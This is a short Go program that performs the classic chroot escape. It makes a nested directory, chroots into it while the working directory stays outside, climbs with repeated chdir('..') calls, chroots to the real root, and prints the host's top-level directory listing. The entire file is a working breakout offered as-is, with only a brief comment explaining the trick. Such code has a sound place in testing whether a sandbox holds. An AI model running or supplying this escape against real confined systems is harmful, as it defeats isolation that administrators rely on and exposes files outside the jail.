// Escape tries the oldest way out of a chroot: make a second one without
// going there, and walk up from outside of it. It lists what is / then.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	try("mkdir", os.Mkdir("/inner", 0o755))
	try("chroot", syscall.Chroot("/inner")) // the working directory stays outside of it
	for range 64 {
		try("chdir", os.Chdir(".."))
	}
	try("chroot", syscall.Chroot("."))
	entries, err := os.ReadDir("/")
	try("readdir", err)
	for _, entry := range entries {
		fmt.Println(entry.Name())
	}
}

func try(what string, err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, what+":", err)
		os.Exit(1)
	}
}
